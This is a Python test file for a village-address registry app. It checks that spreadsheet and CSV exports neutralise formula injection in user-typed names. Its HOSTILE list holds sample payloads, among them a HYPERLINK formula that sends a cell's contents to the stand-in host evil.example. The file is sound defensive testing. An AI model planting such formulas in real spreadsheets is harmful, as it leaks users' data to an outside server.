"""Formula injection: hostile village and point names (officers' files carry whatever was typed)
reach every spreadsheet the app and the command line write for people as text — never a
formula cell in a workbook, never a bare ``=`` in a CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from addrgen.spreadsheet import csv_text, starts_a_formula
from api.services.imports import bad_rows_workbook, preview_upload
from api.services.uploads import UploadRequest, UploadStore
from api.web.app import create_app
from gis.ingest.importing import ImportOptions, import_points
from gis.registry.communes import Commune
from gis.registry.issuing import issue_codes
from gis.registry.villages import import_villages
from gis.settings import load_settings
from gis.storage.db import Registry
from gis.storage.schema import points, villages
from tests.api.conftest import SECRET
from tests.conftest import ACTOR, CliRunner
from tests.excel import open_as_excel
from tests.geometries import village_features

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
]


def test_what_starts_a_formula() -> None:
    for text in HOSTILE:
        assert starts_a_formula(text) and csv_text(text) == "'" + text
    for text in ("-2", "-1,5", "-0.25", "Thôn 1", "", "a=b"):
        assert not starts_a_formula(text) and csv_text(text) == text
    assert csv_text(-2.5) == -2.5 and csv_text(7) == 7


@pytest.fixture
def hostile(registry: Registry, commune: Commune, tmp_path: Path) -> set[str]:
    """Villages and coded points named by the corpus; returns every name as the
    registry keeps it (the import cleans tabs and carriage returns away: that text must come
    back)."""
    features = village_features()
    for feature, name in zip(features["features"], HOSTILE, strict=False):
        feature["properties"]["ten_thon"] = name
    path = tmp_path / "thon.geojson"
    path.write_text(json.dumps(features, ensure_ascii=False), encoding="utf-8")
    import_villages(registry, commune, path, actor=ACTOR)
    # two points in each village: every village's name is in the review list too
    rows = [[f"H{i}", n, 18.315 + i * 3e-4, 105.915 + i % 3 / 100] for i, n in enumerate(HOSTILE)]
    issue = import_points(registry, commune, _csv(tmp_path / "ho.csv", rows), _opts(), actor=ACTOR)
    assert issue.imported == len(HOSTILE)
    issue_codes(registry, commune, actor=ACTOR)
    with registry.write() as conn:  # flagged, for the review list
        conn.execute(update(points).values(needs_review=True))
        names = {*conn.execute(select(points.c.name)).scalars()}
        names |= {*conn.execute(select(villages.c.name)).scalars()}
    assert any(n.startswith("=") for n in names) and "-2+3" in names
    return names


def _csv(path: Path, rows: list[list[object]]) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["ma", "ten", "vi_do", "kinh_do"], *rows])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def _opts() -> ImportOptions:
    return ImportOptions(kind="household", skip_bad=True)


def _check_workbook(data: bytes | Path) -> set[str]:
    """No formula cell anywhere; returns the texts of the cells."""
    source = data if isinstance(data, Path) else io.BytesIO(data)
    book = openpyxl.load_workbook(source)
    texts: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def _check_csv(data: bytes, lang: str) -> set[str]:
    """No cell a spreadsheet would run; returns the texts as a person reads them (Excel shows a
    leading apostrophe's text without it)."""
    texts: set[str] = set()
    for row in open_as_excel(data, lang):
        for cell in row:
            if isinstance(cell, str):
                assert not starts_a_formula(cell), cell
                texts.add(cell.removeprefix("'"))
    return texts


def test_every_sheet_for_people_holds_the_names_as_text(
    registry: Registry, hostile: set[str], tmp_path: Path, cli: CliRunner
) -> None:
    names = hostile
    db = ["--db", registry.url]
    # export --format xlsx (the export's CSV is for programs: its values exactly, so that an
    # export imports back unchanged)
    out = tmp_path / "export.xlsx"
    assert cli("export", "--format", "xlsx", "--out", str(out), *db).code == 0
    assert names <= _check_workbook(out)
    # the dashboard's downloads
    settings = load_settings(database_url=registry.url, env="test", secret_key=SECRET)
    client = TestClient(create_app(settings, registry=registry))
    village_names = {n for n in names if n in _village_names(registry)}
    book = client.get("/dashboard/coverage.xlsx?lang=vi")
    assert book.status_code == 200 and village_names <= _check_workbook(book.content)
    table = client.get("/dashboard/coverage.csv?lang=vi")
    assert village_names <= _check_csv(table.content, "vi")
    # coverage --out and review list --out (CSV for Excel)
    for command in (["coverage"], ["review", "list"]):
        out = tmp_path / f"{command[0]}.csv"
        assert cli(*command, "--out", str(out), "--lang", "vi", *db).code == 0
        assert village_names <= _check_csv(out.read_bytes(), "vi")
    # a batch's manifest.csv
    batch = tmp_path / "batch"
    assert cli("plates", "batch", "--out", str(batch), "--draft", *db).code == 0
    manifest = next(batch.rglob("manifest.csv")).read_bytes()
    assert village_names <= _check_csv(manifest, "en")


def test_the_import_report_and_bad_rows_hold_the_values_as_text(
    registry: Registry, commune: Commune, tmp_path: Path, cli: CliRunner
) -> None:
    import_villages(registry, commune, _geojson(tmp_path), actor=ACTOR)
    rows = [[f"B{i}", name, name, 105.9150] for i, name in enumerate(HOSTILE)]  # bad latitudes
    path = _csv(tmp_path / "ho.csv", rows)
    report = tmp_path / "loi.csv"
    cli(
        "points",
        "import",
        str(path),
        "--kind",
        "household",
        "--report",
        str(report),
        "--db",
        registry.url,
    )
    found = _check_csv(report.read_bytes(), "en")
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' in found and "-2+3" in found
    store = UploadStore(tmp_path / "uploads")
    with path.open("rb") as handle:
        upload = store.save(
            handle,
            file_name="ho.csv",
            user_id=1,
            commune_id=commune.id,
            request=UploadRequest(target="points"),
        )
    workbook = bad_rows_workbook(preview_upload(registry, commune, upload), "vi")
    texts = _check_workbook(workbook)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")' in texts and "+1" in texts


def _geojson(folder: Path) -> Path:
    path = folder / "thon.geojson"
    path.write_text(json.dumps(village_features(), ensure_ascii=False), encoding="utf-8")
    return path


def _village_names(registry: Registry) -> set[str]:
    with registry.read() as conn:
        return {*conn.execute(select(villages.c.name)).scalars()}
